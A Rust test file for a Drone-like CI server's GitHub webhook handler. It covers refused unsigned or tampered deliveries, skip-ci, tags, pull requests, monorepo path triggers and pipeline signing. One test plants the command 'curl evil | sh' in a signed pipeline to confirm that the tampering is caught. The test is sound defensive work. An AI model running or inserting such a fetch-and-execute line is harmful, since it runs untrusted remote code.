//! `POST /hook/github`: what is refused and why, what is recorded, and that every real
//! payload in the fixtures gets a clear answer.

use gantry_test_support::{GitRepo, webhook};
use serde_json::json;

use crate::on_both;
use crate::support::{PIPELINE, SECRET, TestServer};

on_both!(
    refusals_say_what_was_wrong_and_store_only_the_delivery,
    every_fixture_payload_gets_a_clear_answer,
    a_push_builds_once_and_skip_ci_builds_nothing,
    tags_pull_requests_and_deletions_become_their_events,
    a_monorepo_builds_only_the_services_that_changed,
    a_repository_with_a_signing_key_builds_only_signed_files,
);

/// Two services of one repository, each built only when its folder changed.
const MONOREPO: &str = "kind: pipeline
name: api
trigger:
  paths: ['services/api/**']
steps:
  - name: build
    image: busybox
    commands: [echo api]
---
kind: pipeline
name: web
trigger:
  paths:
    include: ['services/web/**']
    exclude: ['**/*.md']
steps:
  - name: build
    image: busybox
    commands: [echo web]
";

mod cases {
    use super::*;

    pub async fn refusals_say_what_was_wrong_and_store_only_the_delivery(db: &str) {
        let server = TestServer::start(db).await;
        let git = GitRepo::new();
        let sha = git.commit(&[(".gantry.yml", PIPELINE)], "first");
        server.add_repo("app", &git).await;
        let payload = webhook::push("acme/app", "main", &sha, "first");
        let body = serde_json::to_vec(&payload).expect("json");

        let unknown = server
            .deliver(
                "push",
                "u-1",
                &webhook::push("acme/nope", "main", &sha, "x"),
            )
            .await;
        // The same answer as a bad signature (below): no oracle for repository names.
        assert_eq!(unknown.status(), 401);
        let unknown_text = unknown.text().await.expect("body");
        assert!(
            unknown_text.contains("not registered") && unknown_text.contains("gantry repo add"),
            "{unknown_text}"
        );

        let unsigned = server.deliver_raw("push", "s-1", body.clone(), None).await;
        assert_eq!(unsigned.status(), 401);
        assert!(
            unsigned
                .text()
                .await
                .expect("body")
                .contains("X-Hub-Signature-256 is missing")
        );

        let sha1_only = server
            .http
            .post(format!("{}/hook/github", server.url))
            .header("x-github-event", "push")
            .header("x-github-delivery", "s-2")
            .header(
                "x-hub-signature",
                "sha1=0000000000000000000000000000000000000000",
            )
            .body(body.clone())
            .send()
            .await
            .expect("answers");
        assert_eq!(sha1_only.status(), 401);
        assert!(sha1_only.text().await.expect("body").contains("SHA-1"));

        let wrong = server
            .deliver_raw(
                "push",
                "s-3",
                body.clone(),
                Some(&webhook::signature("not-the-secret", &body)),
            )
            .await;
        assert_eq!(wrong.status(), 401);
        let wrong_text = wrong.text().await.expect("body");
        assert!(wrong_text.contains("does not match"), "{wrong_text}");
        assert_eq!(wrong_text, unknown_text);
        assert_eq!(
            server.store.delivery("s-3").await.expect("reads"),
            None,
            "a request that is not GitHub's writes nothing"
        );

        let mut tampered = body.clone();
        tampered.extend_from_slice(b" ");
        let replay = server
            .deliver_raw(
                "push",
                "s-4",
                tampered,
                Some(&webhook::signature(SECRET, &body)),
            )
            .await;
        assert_eq!(
            replay.status(),
            401,
            "a body changed after signing is refused"
        );

        let mut malformed = payload.clone();
        malformed.as_object_mut().expect("object").remove("after");
        let response = server.deliver("push", "m-1", &malformed).await;
        assert_eq!(response.status(), 400);
        assert!(response.text().await.expect("body").contains("after"));

        let no_event = server
            .http
            .post(format!("{}/hook/github", server.url))
            .header("x-github-delivery", "e-1")
            .body(body.clone())
            .send()
            .await
            .expect("answers");
        assert_eq!(no_event.status(), 400);

        let huge = vec![b' '; 25 * 1024 * 1024 + 1];
        let too_large = server
            .deliver_raw("push", "big-1", huge, Some("sha256=00"))
            .await;
        assert_eq!(too_large.status(), 413);

        let ping = server
            .deliver(
                "ping",
                "p-1",
                &webhook::for_repo(webhook::fixture("ping", "payload.json"), "acme/app"),
            )
            .await;
        assert_eq!(ping.status(), 200);

        let issues = server
            .deliver(
                "issues",
                "i-1",
                &json!({"action": "opened", "repository": {"full_name": "acme/app"}}),
            )
            .await;
        assert_eq!(issues.status(), 204);
        let reason = issues
            .headers()
            .get("gantry-reason")
            .expect("a reason")
            .to_str()
            .expect("ascii");
        assert!(
            reason.contains("`issues` event does not start builds"),
            "{reason}"
        );

        let builds = server.get_json("/repos/acme/app/builds").await;
        assert_eq!(
            builds.as_array().map(Vec::len),
            Some(0),
            "no refused delivery made a build"
        );

        // A repository without a secret accepts nothing.
        let open = GitRepo::new();
        let repo = server.add_repo("open", &open).await;
        server
            .store
            .update_repo(
                repo.id,
                &gantry_store::RepoUpdate {
                    webhook_secret: Some(String::new()),
                    ..Default::default()
                },
            )
            .await
            .expect("updates");
        let response = server
            .deliver(
                "push",
                "n-1",
                &webhook::push("acme/open", "main", &sha, "x"),
            )
            .await;
        assert_eq!(response.status(), 401);
        assert!(
            response
                .text()
                .await
                .expect("body")
                .contains("does not match")
        );
        server.stop().await;
    }

    pub async fn every_fixture_payload_gets_a_clear_answer(db: &str) {
        let server = TestServer::start(db).await;
        let git = GitRepo::new();
        git.commit(&[(".gantry.yml", PIPELINE)], "first");
        server.add_repo("app", &git).await;
        let mut n = 0;
        for event in [
            "push",
            "pull_request",
            "ping",
            "create",
            "delete",
            "deployment",
            "deployment_status",
        ] {
            for (file, payload) in webhook::fixtures(event) {
                n += 1;
                let has_repository = payload.get("repository").is_some();
                let response = server
                    .deliver(
                        event,
                        &format!("fixture-{n}"),
                        &webhook::for_repo(payload, "acme/app"),
                    )
                    .await;
                let status = response.status().as_u16();
                if !has_repository {
                    // An organization's webhook: refused, saying how to set it up instead.
                    assert_eq!(status, 400, "{event}/{file}");
                    let text = response.text().await.unwrap_or_default();
                    assert!(
                        text.contains("organization-wide webhooks are not supported"),
                        "{text}"
                    );
                    continue;
                }
                assert!(
                    matches!(status, 200 | 202 | 204),
                    "{event}/{file}: {status} {}",
                    response.text().await.unwrap_or_default()
                );
            }
        }
        assert!(n > 30, "the fixtures were read ({n})");
        server.stop().await;
    }

    pub async fn a_push_builds_once_and_skip_ci_builds_nothing(db: &str) {
        let server = TestServer::start(db).await;
        let git = GitRepo::new();
        let sha = git.commit(&[(".gantry.yml", PIPELINE)], "first");
        server.add_repo("app", &git).await;
        let payload = webhook::push("acme/app", "main", &sha, "first");
        let first = server.deliver("push", "d-1", &payload).await;
        assert_eq!(first.status(), 202);
        let build = server.wait_build("app", 1).await;
        assert_eq!(build["commit"], sha.as_str());
        assert_eq!(build["event"], "push");
        assert_eq!(build["status"], "pending");
        let again = server.deliver("push", "d-1", &payload).await;
        assert_eq!(again.status(), 200);
        let body: serde_json::Value = again.json().await.expect("json");
        assert_eq!(body["status"], "duplicate");

        let skipped = webhook::push("acme/app", "main", &sha, "docs only [skip ci]");
        let response = server.deliver("push", "d-2", &skipped).await;
        assert_eq!(response.status(), 200);
        let body: serde_json::Value = response.json().await.expect("json");
        assert_eq!(body["status"], "skipped");

        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
        let builds = server.get_json("/repos/acme/app/builds").await;
        assert_eq!(builds.as_array().map(Vec::len), Some(1), "{builds}");
        server.stop().await;
    }

    pub async fn tags_pull_requests_and_deletions_become_their_events(db: &str) {
        let server = TestServer::start(db).await;
        let git = GitRepo::new();
        let pipeline = "kind: pipeline\nname: ci\nclone: {disable: true}\ntrigger: {event: [push, tag, pull_request, delete]}\nsteps:\n  - name: t\n    image: busybox\n    commands: [echo $CI_COMMIT_REF]\n";
        let base = git.commit(&[(".gantry.yml", pipeline)], "base");
        let feature = git.commit(&[("feature.txt", "x")], "a feature");
        git.reset_main(&base);
        git.set_ref("refs/pull/7/head", &feature);
        git.set_ref("refs/tags/v1.0.0", &base);
        server.add_repo("app", &git).await;

        let mut tag = webhook::fixture("push", "push_tag.json");
        tag = webhook::for_repo(tag, "acme/app");
        tag["ref"] = "refs/tags/v1.0.0".into();
        tag["after"] = base.as_str().into();
        tag["head_commit"] = serde_json::Value::Null;
        assert_eq!(server.deliver("push", "t-1", &tag).await.status(), 202);
        let build = server.wait_build("app", 1).await;
        assert_eq!(
            (build["event"].as_str(), build["tag"].as_str()),
            (Some("tag"), Some("v1.0.0"))
        );
        assert_eq!(build["commit"], base.as_str());

        let pr = webhook::pull_request("acme/app", 7, "feature", "main", &feature);
        assert_eq!(
            server.deliver("pull_request", "pr-1", &pr).await.status(),
            202
        );
        let build = server.wait_build("app", 2).await;
        assert_eq!(build["event"], "pull_request");
        assert_eq!(build["action"], "opened");
        assert_eq!(build["ref"], "refs/pull/7/head");
        assert_eq!(build["pull_request"], 7);
        assert_eq!(
            build["commit"],
            feature.as_str(),
            "fetched through refs/pull/7/head"
        );
        assert_eq!(build["status"], "pending", "{build}");

        let mut closed = pr.clone();
        closed["action"] = "closed".into();
        assert_eq!(
            server
                .deliver("pull_request", "pr-2", &closed)
                .await
                .status(),
            202
        );
        let build = server.wait_build("app", 3).await;
        assert_eq!(build["action"], "closed");
        assert_eq!(
            build["status"], "skipped",
            "closed pull requests run only pipelines that ask: {build}"
        );

        let mut labeled = pr.clone();
        labeled["action"] = "labeled".into();
        assert_eq!(
            server
                .deliver("pull_request", "pr-3", &labeled)
                .await
                .status(),
            204
        );

        let delete = webhook::for_repo(
            webhook::fixture("push", "push_branch_delete.json"),
            "acme/app",
        );
        assert_eq!(server.deliver("push", "del-1", &delete).await.status(), 202);
        let build = server.wait_build("app", 4).await;
        assert_eq!(build["event"], "delete");
        assert_eq!(build["branch"], "feature-branch");
        assert_eq!(
            build["commit"],
            base.as_str(),
            "a deletion builds the default branch's head"
        );
        assert_eq!(
            build["status"], "pending",
            "the pipeline's trigger asks for delete: {build}"
        );
        server.stop().await;
    }

    pub async fn a_monorepo_builds_only_the_services_that_changed(db: &str) {
        let server = TestServer::start(db).await;
        let git = GitRepo::new();
        server.add_repo("mono", &git).await;
        let zero = "0".repeat(40);
        let mut number = 0;
        let mut push = |before: &str, after: &str| {
            number += 1;
            let mut payload = webhook::push("acme/mono", "main", after, "change");
            payload["before"] = before.into();
            // GitHub's own list must not be what decides: it names other files.
            payload["commits"][0]["modified"] = json!(["services/web/index.html"]);
            (payload, number)
        };
        // Which of the two pipelines run in build `number`.
        async fn ran(server: &TestServer, number: u64) -> Vec<String> {
            let build = server.wait_build("mono", number).await;
            let stages = build["stages"].as_array().expect("stages");
            assert_eq!(stages.len(), 2, "{build}");
            stages
                .iter()
                .filter(|s| s["status"] != "skipped")
                .map(|s| s["name"].as_str().expect("a name").to_owned())
                .collect()
        }

        let first = git.commit(
            &[
                (".drone.yml", MONOREPO),
                ("services/api/main.go", "package main"),
                ("services/web/index.html", "<p>hi</p>"),
            ],
            "first",
        );
        let (payload, n) = push(&zero, &first);
        assert_eq!(server.deliver("push", "m-1", &payload).await.status(), 202);
        assert_eq!(
            ran(&server, n).await,
            ["api", "web"],
            "a new branch changes its whole tree"
        );

        let api = git.commit(&[("services/api/main.go", "package api")], "api");
        let (payload, n) = push(&first, &api);
        assert_eq!(server.deliver("push", "m-2", &payload).await.status(), 202);
        assert_eq!(ran(&server, n).await, ["api"]);

        let docs = git.commit(&[("services/web/README.md", "# web")], "docs");
        let (payload, n) = push(&api, &docs);
        assert_eq!(server.deliver("push", "m-3", &payload).await.status(), 202);
        assert_eq!(
            ran(&server, n).await,
            Vec::<String>::new(),
            "web excludes markdown"
        );
        assert_eq!(server.wait_build("mono", n).await["status"], "skipped");

        let web = git.commit(&[("services/web/index.html", "<p>web</p>")], "web");
        let (payload, n) = push(&docs, &web);
        assert_eq!(server.deliver("push", "m-4", &payload).await.status(), 202);
        assert_eq!(ran(&server, n).await, ["web"]);

        // A pull request changes the api; main has moved on with a web change since the
        // branch was made: only the pull request's own files count (base...head).
        let feature = git.commit(&[("services/api/handler.go", "package api")], "feature");
        git.set_ref("refs/pull/9/head", &feature);
        git.reset_main(&web);
        let moved = git.commit(&[("services/web/style.css", "p {}")], "main moves on");
        let mut pr = webhook::pull_request("acme/mono", 9, "feature", "main", &feature);
        pr["pull_request"]["base"]["sha"] = moved.as_str().into();
        assert_eq!(
            server.deliver("pull_request", "m-5", &pr).await.status(),
            202
        );
        assert_eq!(ran(&server, n + 1).await, ["api"]);
        let build = server.wait_build("mono", n + 1).await;
        assert_eq!(build["commit"], feature.as_str());

        // Without its base branch, the changed files are unknown: the build says so.
        let mut orphan = webhook::pull_request("acme/mono", 10, "feature", "gone", &feature);
        orphan["pull_request"]["base"]["sha"] = json!("1".repeat(40));
        assert_eq!(
            server
                .deliver("pull_request", "m-6", &orphan)
                .await
                .status(),
            202
        );
        let build = server.wait_finished("mono", n + 2).await;
        assert_eq!(build["status"], "error", "{build}");
        let message = build["error"].as_str().unwrap_or_default();
        assert!(
            message.contains("`path` cannot be decided") && message.contains("branch gone"),
            "{message}"
        );
        server.stop().await;
    }

    /// `gantry sign` (as `drone sign`): once a file of the repository is signed, an unsigned
    /// or altered file errors the build saying how to sign it; a signed one runs; a
    /// Woodpecker file cannot be signed; `--disable` stops the check.
    pub async fn a_repository_with_a_signing_key_builds_only_signed_files(db: &str) {
        let server = TestServer::start(db).await;
        let git = GitRepo::new();
        let pipeline = "kind: pipeline\nname: ci\nclone: {disable: true}\nsteps:\n  - name: t\n    image: busybox\n    commands: [echo signed]\n";
        let first = git.commit(&[(".gantry.yml", pipeline)], "unsigned");
        server.add_repo("app", &git).await;
        let push = |n: u64, sha: &str| {
            let payload = webhook::push("acme/app", "main", sha, "a push");
            let server = &server;
            async move {
                assert_eq!(
                    server
                        .deliver("push", &format!("sign-{n}"), &payload)
                        .await
                        .status(),
                    202
                );
                server.wait_build("app", n).await
            }
        };
        // No key yet: nothing is checked.
        assert_eq!(push(1, &first).await["status"], "pending");

        let woodpecker = server
            .api(
                reqwest::Method::POST,
                "/repos/acme/app/sign",
                Some(json!({"data": "steps:\n  t:\n    image: busybox\n"})),
            )
            .await;
        assert_eq!(woodpecker.status(), 400);
        let signed: gantry_api::Signed = server
            .api(
                reqwest::Method::POST,
                "/repos/acme/app/sign",
                Some(json!({ "data": pipeline })),
            )
            .await
            .json()
            .await
            .expect("a signature");
        assert_eq!(signed.hmac.len(), 64);
        let repo = server.get_json("/repos/acme/app").await;
        assert_eq!(repo["signed_files"], true, "{repo}");
        assert_eq!(
            signed.document,
            format!("kind: signature\nhmac: {}\n", signed.hmac)
        );

        // The same unsigned file now errors the build, saying how to sign it.
        let unsigned = git.commit(&[("README", "x")], "unsigned again");
        let build = push(2, &unsigned).await;
        assert_eq!(build["status"], "error", "{build}");
        let error = build["error"].as_str().unwrap_or_default();
        assert!(
            error.contains(".gantry.yml is not signed")
                && error.contains("gantry sign acme/app .gantry.yml --save"),
            "{error}"
        );

        let with = gantry_pipeline::signature::with_signature(pipeline, &signed.hmac)
            .expect("a signable file");
        let good = git.commit(&[(".gantry.yml", with.as_str())], "signed");
        assert_eq!(push(3, &good).await["status"], "pending");

        let altered = git.commit(
            &[(
                ".gantry.yml",
                with.replace("echo signed", "curl evil | sh").as_str(),
            )],
            "altered",
        );
        let build = push(4, &altered).await;
        assert_eq!(build["status"], "error", "{build}");
        assert!(
            build["error"]
                .as_str()
                .unwrap_or_default()
                .contains("the signature of .gantry.yml does not match it"),
            "{build}"
        );

        let disabled = server
            .api(reqwest::Method::DELETE, "/repos/acme/app/sign", None)
            .await;
        assert_eq!(disabled.status(), 204);
        let after = git.commit(&[(".gantry.yml", pipeline)], "unsigned after disable");
        assert_eq!(push(5, &after).await["status"], "pending");
        server.stop().await;
    }
}

/// What gantry reads from each payload agrees with what Drone's own parser (go-scm) reads
/// from it: its golden files are the expected values.
#[test]
fn payloads_parse_as_drone_parses_them() {
    use gantry_server::github::{Hook, parse_hook};
    let golden_dir = gantry_test_support::fixtures_dir().join("github-webhooks/go-scm-golden");
    let mut compared = 0;
    for (event, file) in [
        ("push", "push.json"),
        ("push", "push_branch_create.json"),
        ("push", "push_tag.json"),
        ("push", "push_branch_delete.json"),
        ("push", "push_tag_delete.json"),
        ("pull_request", "pr_opened.json"),
        ("pull_request", "pr_sync.json"),
        ("pull_request", "pr_reopened.json"),
        ("pull_request", "pr_closed.json"),
    ] {
        let payload = webhook::fixture(event, file);
        let body = serde_json::to_vec(&payload).expect("json");
        let golden: serde_json::Value = serde_json::from_str(
            &std::fs::read_to_string(golden_dir.join(event).join(format!("{file}.golden")))
                .expect("a golden file"),
        )
        .expect("golden json");
        let Ok(Hook::Trigger(trigger)) = parse_hook(event, &body) else {
            panic!("{event}/{file} makes a build");
        };
        let sender = golden["Sender"]["Login"].as_str().unwrap_or_default();
        assert_eq!(trigger.sender, sender, "{file}: sender");
        if event == "push" {
            let reference = golden["Ref"].as_str().unwrap_or_default();
            let deleted = payload["deleted"].as_bool().unwrap_or(false);
            if deleted {
                assert_eq!(trigger.event, gantry_pipeline::Event::Delete, "{file}");
                let name = reference.rsplit('/').next().unwrap_or_default();
                assert_eq!(trigger.branch, name, "{file}: the deleted ref's name");
                assert_eq!(
                    trigger.before.as_deref(),
                    golden["Before"].as_str(),
                    "{file}"
                );
            } else {
                assert_eq!(trigger.reference, reference, "{file}: ref");
                assert_eq!(
                    trigger.commit,
                    golden["After"].as_str().unwrap_or_default(),
                    "{file}: commit"
                );
                let tag = reference.strip_prefix("refs/tags/");
                assert_eq!(trigger.tag.as_deref(), tag, "{file}: tag");
                if let Some(message) = golden["Commit"]["Message"]
                    .as_str()
                    .filter(|m| !m.is_empty())
                {
                    assert_eq!(trigger.message, message, "{file}: message");
                }
            }
        } else {
            let pr = &golden["PullRequest"];
            // go-scm spells GitHub's `synchronize` as `synchronized`.
            assert_eq!(
                trigger.action.as_deref(),
                golden["Action"].as_str().map(|a| if a == "synchronized" {
                    "synchronize"
                } else {
                    a
                }),
                "{file}: action"
            );
            assert_eq!(
                trigger.pull_request,
                pr["Number"].as_u64(),
                "{file}: number"
            );
            assert_eq!(
                trigger.commit,
                pr["Sha"].as_str().unwrap_or_default(),
                "{file}: sha"
            );
            assert_eq!(
                trigger.reference,
                pr["Ref"].as_str().unwrap_or_default(),
                "{file}: ref"
            );
            assert_eq!(
                trigger.branch,
                pr["Source"].as_str().unwrap_or_default(),
                "{file}: source"
            );
            assert_eq!(
                trigger.target_branch.as_deref(),
                pr["Target"].as_str(),
                "{file}: target"
            );
            assert_eq!(
                trigger.pull_request_title.as_deref(),
                pr["Title"].as_str(),
                "{file}: title"
            );
        }
        compared += 1;
    }
    assert_eq!(compared, 9);
}
